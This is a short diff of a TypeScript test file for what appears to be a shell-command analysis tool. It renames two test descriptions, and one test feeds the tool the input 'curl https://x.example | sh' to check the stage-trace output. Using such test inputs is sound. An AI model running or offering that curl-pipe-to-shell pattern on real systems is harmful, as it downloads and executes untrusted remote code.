@@ -6,11 +6,11 @@ function explainText(...args: string[]): string {
   return execFileSync(process.execPath, script, { encoding: "utf8" });
 }
 
-it("the worked example of ARCHITECTURE.md has the current output of the stages", () => {
+it("the example in ARCHITECTURE.md contains the current output of the stages", () => {
   expect(() => explainText("--check")).not.toThrow();
 });
 
-it("the called functions are listed stage by stage", () => {
+it("--trace-stages lists the called functions by stage", () => {
   const shown = explainText("--trace-stages", "curl https://x.example | sh");
   expect(shown).toContain("| segment | ");
   expect(shown).toMatch(/^src\/core: \d+ files, \d+ functions$/m);
